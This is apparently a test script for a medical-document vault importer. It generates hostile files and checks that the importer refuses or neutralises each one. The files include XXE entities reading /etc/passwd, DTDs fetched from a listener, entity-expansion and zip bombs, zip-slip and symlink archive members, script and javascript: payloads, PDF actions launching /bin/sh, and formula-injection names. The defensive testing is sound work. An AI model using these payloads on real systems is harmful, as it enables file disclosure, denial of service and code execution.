#!/usr/bin/env python3
# SPDX-License-Identifier: EUPL-1.2
"""Rows 111 to 123 of the catalogue of attacks and the ten hostile files, each by its number: what is
tried, what became of it, what it cost. One table.

usage: hostile_rows.py BIN_DIR

All files go into one vault in one import, beside documents that are good. Each must be refused, set
apart, or taken in as bytes that do nothing; its reader may use a second and 100 MB; the good ones
come in; and the person is told which file and why, in French and in English. A listener waits for
whatever a file might call.
"""
import base64
import io
import os
import pathlib
import re
import struct
import sys
import warnings
import zipfile
import zlib

import reader_confined
from harness import ROOT, Beacon, Programs, Suite, expect

HOSTILE = pathlib.Path(ROOT, "../shared/data/documents/hostile")
CDA = ('<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
       "<id root='1.2.3' extension='{id}'/><code code='34133-9' codeSystem='2.16.840.1.113883.6.1'/><title>{title}</title>"
       "<effectiveTime value='20260301'/><recordTarget><patientRole><id root='1.2.250.1.213.1.4.10' extension='{number}'/>"
       "<patient><name><given>{given}</given><family>EXEMPLE</family></name><birthTime value='19600514'/></patient></patientRole>"
       "</recordTarget><component><structuredBody><component><section><title>Texte</title><text>{text}</text></section>"
       "</component></structuredBody></component></ClinicalDocument>")
# Tests that show the rest of a row where a browser or another wing is needed: file, words in it.
ELSEWHERE = {
    113: [("tests/browser/hostile.test.mjs", "none runs, calls or opens anything"),
          ("tests/browser/rendered.test.mjs", "those of ours run nothing and call nobody")],
    116: [("tests/vault/crypto/parcel_test.cpp", "content over the limit is refused, before or after inflating")],
}


def cda(title="Lettre", text="Rien.", given="Camille", number="1", name="a"):
    return CDA.format(title=title, text=text, given=given, number=number, id=name).encode()


def packed(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content, *mode in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if mode:
                info.create_system, info.external_attr = 3, mode[0] << 16
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # a name twice is what is tried
                archive.writestr(info, content)
    return out.getvalue()


def with_lie(data, field, value):
    """A ZIP whose headers, both, say something else of its only member: "crc" or "size"."""
    for at in (data.rindex(b"PK\x01\x02") + {"crc": 16, "size": 24}[field], {"crc": 14, "size": 22}[field]):
        data = data[:at] + struct.pack("<I", value) + data[at + 4:]
    return data


def overlapping():
    """Members that share one compressed body (Fifield), so that a kilobyte unpacks to gigabytes."""
    body = zlib.compress(bytes(8 << 20), 9)[2:-4]
    crc = zlib.crc32(bytes(8 << 20))
    local = struct.pack("<IHHHIIIIHH", 0x04034B50, 20, 0, 8, 0x58210000, crc, len(body), 8 << 20, 1, 0) + b"a"
    directory = b""
    for number in range(500):
        name = b"%04d" % number
        directory += struct.pack("<IHHHHIIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0x58210000, crc, len(body), 8 << 20,
                                 len(name), 0, 0, 0, 0, 0, 0) + name
    start = len(local) + len(body)
    return local + body + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 500, 500, len(directory), start, 0)


def png(width, height, rows=b""):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def pdf(action):
    return (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>endobj\n"
            b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


REFUSED, INERT, APART = {"refused"}, {"imported"}, {"quarantined"}


def rows_of(beacon, outside):
    """(row, file name, bytes, outcomes allowed, causes allowed). `outside`: where nothing may be written."""
    laughs = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    deep = 100_000
    yield 111, "xxe.xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", REFUSED, {"xml_doctype"}
    yield 111, "dtd.xml", f"<?xml version='1.0'?><!DOCTYPE a SYSTEM '{beacon}dtd'><a/>".encode(), REFUSED, {"xml_doctype"}
    yield 111, "parameter.xml", f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY % e SYSTEM '{beacon}p'> %e;]><a/>".encode(), REFUSED, {"xml_doctype"}
    yield 111, "xinclude.xml", cda(text="<xi:include href='file:///etc/passwd' parse='text'/>Suite", name="xi"), INERT, None
    yield 112, "laughs.xml", f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a0 'ha'>{laughs}]><a>&a9;</a>".encode(), REFUSED, {"xml_doctype"}
    yield 112, "quadratic.xml", ("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e '" + "a" * 50_000 + "'>]><a>" + "&e;" * 50_000 + "</a>").encode(), REFUSED, {"xml_doctype"}
    yield 112, "attributes.xml", b"<?xml version='1.0'?><a " + b"".join(b"a%d='' " % i for i in range(1_000_000)) + b"/>", REFUSED, {"xml_attributes"}
    yield 112, "deep.xml", b"<?xml version='1.0'?>" + b"<a>" * deep + b"</a>" * deep, REFUSED, {"xml_depth"}
    yield 112, "elements.xml", b"<?xml version='1.0'?><a>" + b"<b/>" * 3_000_000 + b"</a>", REFUSED, {"xml_elements"}
    yield 112, "deep.json", b"[" * deep + b"]" * deep, REFUSED, {"json_not_well_formed"}
    yield 112, "values.json", b'{"resourceType":"Patient","x":[' + b"0," * 3_000_000 + b"0]}", REFUSED, {"json_values"}
    yield 113, "script.xml", cda(name="js", text=f"<linkHtml href='javascript:alert(1)'>a</linkHtml><paragraph onmouseover='alert(1)'>b</paragraph>"
                                 f"<table><tr><td style='background:url({beacon}css)'>c</td></tr></table><img src='{beacon}img'/>"), INERT, None
    yield 113, "instruction.xml", cda(name="pi").replace(b"?><Clin", f"?><?xml-stylesheet type='text/xsl' href='{beacon}xsl'?><Clin".encode(), 1), INERT, None
    yield 113, "body.xml", cda(name="nx").replace(b"<structuredBody>", b"<nonXMLBody><text mediaType='text/html' representation='B64'>" + base64.b64encode(f"<script src='{beacon}s'></script>".encode()) + b"</text></nonXMLBody><x>").replace(b"</structuredBody>", b"</x>"), INERT, None
    yield 114, "climbs.zip", packed(("a/../../b.txt", b"x")), REFUSED, {"archive_unsafe_name"}
    yield 114, "absolute.zip", packed((outside, b"x")), REFUSED, {"archive_unsafe_name"}
    yield 114, "drive.zip", packed(("C:\\a.txt", b"x")).replace(b"C:/a.txt", b"C:\\a.txt"), REFUSED, {"archive_unsafe_name"}
    yield 114, "symlink.zip", packed(("a", b"/etc/passwd", 0o120777)), REFUSED, {"archive_special_member"}
    yield 114, "device.zip", packed(("a", b"", 0o020666)), REFUSED, {"archive_special_member"}
    yield 114, "twice.zip", packed(("a.txt", b"x"), ("a.txt", b"y")), REFUSED, {"archive_repeated_name"}
    yield 114, "alike.zip", packed(("\u00e9t\u00e9.txt", b"un"), ("e\u0301te\u0301.txt", b"deux"), ("\u00c9T\u00c9.TXT", b"trois")), REFUSED, {"archive_repeated_name"}
    yield 114, "case.zip", packed(("a.txt", b"petit"), ("A.TXT", b"grand")), INERT, None
    yield 115, "zeros.zip", packed(("zeros.txt", bytes(60 << 20))), REFUSED, {"archive_unpacks_to_too_much"}
    yield 115, "overlapping.zip", overlapping(), REFUSED, {"archive_unpacks_to_too_much"}
    yield 115, "nested.zip", packed(("inside.zip", packed(("a.txt", b"x")))), REFUSED, {"archive_in_archive"}
    yield 115, "checksum.zip", with_lie(packed(("a.txt", b"x" * 99)), "crc", 7), REFUSED, {"archive_sizes", "archive_damaged"}
    yield 115, "size.zip", with_lie(packed(("a.txt", b"x" * 99)), "size", 5), REFUSED, {"archive_sizes", "archive_damaged"}
    big = b"A" * (30 << 20)
    yield 117, "base64.xml", cda(name="b64").replace(b"<structuredBody>", b"<nonXMLBody><text mediaType='application/pdf' representation='B64'>" + b" \n".join(big[i:i + 76] for i in range(0, 8 << 20, 76)) + b"</text></nonXMLBody><x>").replace(b"</structuredBody>", b"</x>"), INERT, None
    yield 117, "spelling.xml", cda(name="b2").replace(b"<structuredBody>", b"<nonXMLBody><text mediaType='application/pdf' representation='B64'>QQ==QR==%%%</text></nonXMLBody><x>").replace(b"</structuredBody>", b"</x>"), INERT, None
    yield 118, "polyglot.pdf", b"%PDF-1.4\n<html><script src='" + beacon.encode() + b"poly'></script>PK\x03\x04\n%%EOF", INERT, None
    yield 118, "page.html", f"<html><script src='{beacon}html'></script>Bonjour</html>".encode(), INERT, None
    yield 118, "picture.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", INERT, None
    yield 119, "javascript.pdf", pdf(f"<</S/JavaScript/JS(app.launchURL('{beacon}js'))>>".encode()), INERT, None
    yield 119, "launch.pdf", pdf(b"<</S/Launch/F(/bin/sh)>>"), INERT, None
    yield 119, "uri.pdf", pdf(f"<</S/URI/URI({beacon}uri)>>".encode()), INERT, None
    yield 120, "giga.png", png(1_000_000, 1_000_000), REFUSED, {"image_pixels"}
    yield 120, "dense.png", png(16_000, 16_000, bytes(1000)), INERT, None
    yield 120, "program.dcm", b"MZ" + bytes(126) + b"DICM" + b"\x02\x00\x10\x00UI\xff\xff" + b"1.2.840", INERT, None
    yield 121, "titre\u202egnp.exe.txt", b"Un texte sans plus.", INERT, None
    yield 121, "-rf.txt", b"Un autre texte.", INERT, None
    yield 121, "formule.xml", cda(title="=HYPERLINK(\"http://exemple.invalid\")\u202e", name="csv"), INERT, None
    yield 121, "long.xml", cda(title="../" * 2000 + "\u0007".replace("\u0007", "x"), name="long"), INERT, None
    yield 122, "other.xml", cda(given="Noé", number="999", name="o"), APART, None
    yield 122, "altered.xml", cda(title="Lettre corrigée", name="good"), INERT, None  # the id of a good one: both are kept
    yield 123, "bytes.xml", b"<?xml version='1.0' encoding='UTF-8'?><a>\xe9\xe9 </a>", REFUSED, {"xml_encoding", "xml_not_well_formed"}
    yield 123, "utf7.xml", b"<?xml version='1.0' encoding='UTF-7'?><a>+ADw-script+AD4-</a>", REFUSED | INERT, None
    yield 123, "surrogate.json", b'{"resourceType":"Patient","id":"\\ud800"}', REFUSED, {"json_not_well_formed"}
    yield 123, "mixed.xml", "<?xml version='1.0' encoding='UTF-16'?><a>".encode("utf-8") + "é</a>".encode("utf-16-le"), REFUSED, {"xml_encoding", "xml_not_well_formed"}


HOSTILE_FILES = {"h01": (REFUSED, {"xml_doctype"}), "h02": (REFUSED, {"xml_doctype"}), "h03": (INERT | APART, None),
                 "h04": (INERT | APART, None), "h05": (INERT | APART, None), "h06": (REFUSED, {"archive_unsafe_name"}),
                 "h07": (REFUSED, {"metadata_hash"}), "h08": (INERT | APART, None), "h09": (REFUSED, {"json_not_well_formed"}),
                 "h10": (REFUSED, {"xml_not_well_formed"})}


def cost(program, name, content):
    """Of the reader alone, in seconds of processor time and megabytes; archives are taken apart."""
    with reader_confined.Reader(program) as reader:
        reader.wait_until(reader_confined.is_confined)
        before = reader.processor_seconds()
        reader.ask(reader_confined.DESCRIBE, name, content)
        if content.startswith(b"PK"):
            reader.ask(reader_confined.UNPACK, name, content)
        return reader.processor_seconds() - before, reader.peak_megabytes()


def causes():
    with open(os.path.join(ROOT, "include/coffret/cause.def"), encoding="utf-8") as file:
        text = r'((?:"(?:[^"\\]|\\.)*"\s*)+)'
        rows = re.findall(rf"COFFRET_CAUSE\(\s*\d+, (\w+), \w+,\s*{text},\s*{text}\)", file.read())
    return {code: ["".join(re.findall(r'"((?:[^"\\]|\\.)*)"', one)).replace('\\"', '"') for one in both]
            for code, *both in rows}


def run(programs, suite):
    beacon = Beacon()
    vault = programs.vault()
    vault.init()
    folder = pathlib.Path(programs.path("batch"))
    folder.mkdir()
    outside = programs.path("was-here")
    cases = list(rows_of(beacon.url, outside))
    if HOSTILE.is_dir():
        for path in sorted(HOSTILE.iterdir()):
            outcomes, why = HOSTILE_FILES[path.name[:3]]
            cases.append((path.name[:3], path.name, path.read_bytes(), outcomes, why))
    else:
        suite.skip("the ten hostile files", "../shared/data/documents/hostile is not here")
    for _, name, content, _, _ in cases:
        (folder / name).write_bytes(content)
    (folder / "aaa-good.xml").write_bytes(cda(title="Première lettre", name="good"))
    (folder / "zzz-good.txt").write_text("Une page saine.", encoding="utf-8")
    done = vault.run("import", str(folder), check=False)
    told = {}
    for row in done.rows[:-1]:
        path, _, member = row["path"].partition("!/")
        told.setdefault(os.path.basename(path), []).append({**row, "member": member})
    reader = programs.program("coffret-reader")

    def judged(row, name, content, outcomes, why):
        rows = told.get(name) or told.get(name.replace("\u202e", " ")) or []
        expect(rows, f"{name} is told of")
        seen = {one["outcome"] for one in rows}
        reasons = {one.get("cause") for one in rows if one["outcome"] == "refused"}
        seconds, megabytes = cost(reader, name, content)
        print(f"row {row!s:>4}  {name:<24} {'/'.join(sorted(seen)):<12} {'/'.join(sorted(filter(None, reasons))):<28} "
              f"{seconds:5.2f} s {megabytes:4.0f} MB".replace("\u202e", "?"), flush=True)
        expect(seen <= outcomes, f"{name}: {rows}")
        expect("refused" not in seen or why is None or reasons <= why, f"{name}: {reasons}, wanted {why}")
        expect(seconds < reader_confined.SECONDS, f"{name} costs {seconds} s")
        expect(0 < megabytes < reader_confined.MEGABYTES, f"{name} takes {megabytes} MB")

    for case in cases:
        suite.test(f"row {case[0]}: {case[1]}", lambda case=case: judged(*case))

    def batch_unharmed():
        expect(done.status == 9, f"exit {done.status}")
        for name in ("aaa-good.xml", "zzz-good.txt"):
            expect([one["outcome"] for one in told[name]] == ["imported"], f"{name}: {told.get(name)}")
        expect(vault.run("check", "--read-data").one()["ok"], "the vault is in order")

    def told_why():
        known = causes()
        for language, place in (("fr", 0), ("en", 1)):
            vault.lang = language
            said = vault.run("import", str(folder), check=False, json_out=False)
            text = said.out.decode() + said.err.decode()
            for rows in told.values():
                for one in rows:
                    if one["outcome"] == "refused" and one.get("cause"):
                        expect(os.path.basename(one["path"]) in text, f"{one['path']} in {language}")
                        expect(known[one["cause"]][place] in text, f"{one['cause']} in {language}")
        vault.lang = None

    def nothing_of_this_machine():
        expect(not vault.run("search", "root:x:0:0").rows, "/etc/passwd is in no document")
        expect(not os.path.exists(outside), "nothing was written outside")
        inside = {path.name for path in folder.parent.iterdir()}
        expect("b.txt" not in inside, f"something was unpacked: {inside}")

    def shown_without_acting():
        for row in vault.run("list").rows:
            page = vault.run("show", row["id"], "--html", check=False, json_out=False).out.decode("utf-8", "replace").lower()
            for word in ("<script", "javascript:", "onmouseover=", "onload=", "url(" + beacon.url, "src=\"" + beacon.url,
                         "src='" + beacon.url, "<?xml-stylesheet", "\u202e"):
                expect(word not in page, f"{row['title']}: {word}")

    def exported_safely():
        out = programs.path("out")
        vault.run("export", "--format", "folder", "--out", out)
        for base, _, names in os.walk(out):
            for name in names:
                expect(not name.startswith(("-", ".", "=")) and "\u202e" not in name and len(name.encode()) < 256, name)
                expect(not name.endswith((".exe", ".js", ".bat")), name)
                expect(os.path.realpath(os.path.join(base, name)).startswith(os.path.realpath(out)), name)
        for table in pathlib.Path(out).glob("*.csv"):
            for line in table.read_text(encoding="utf-8-sig").splitlines():
                for cell in re.split(r"[;,\t]", line):
                    expect(not cell.strip('"').startswith(("=", "+", "@")), f"{table.name}: {cell}")

    def called_nobody():
        expect(beacon.calls == 0, f"{beacon.calls} calls")

    suite.test("the rest of the batch is unharmed, and the exit status says that some were refused", batch_unharmed)
    suite.test("the person is told which file and why, in French and in English", told_why)
    suite.test("row 111, 114: nothing of this machine came in, nothing was written outside", nothing_of_this_machine)
    suite.test("row 113, 118: what is shown neither acts nor calls", shown_without_acting)
    suite.test("row 121: what is taken out has safe names and safe cells", exported_safely)
    suite.test("rows 111, 113, 118, 119: nobody was called", called_nobody)
    for row, places in ELSEWHERE.items():
        for file, words in places:
            text = pathlib.Path(ROOT, file).read_text(encoding="utf-8")
            suite.test(f"row {row}: also shown by {file}", lambda text=text, words=words: expect(words in text, words))
    covered = {case[0] for case in cases} | set(ELSEWHERE)
    suite.test("every row from 111 to 123 has its line", lambda: expect(set(range(111, 124)) <= covered, covered))


def main():
    suite = Suite()
    reader_confined.LEAK = os.open("/dev/null", os.O_RDONLY)
    with Programs(sys.argv[1]) as programs:
        run(programs, suite)
    return suite.close()


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    sys.exit(main())
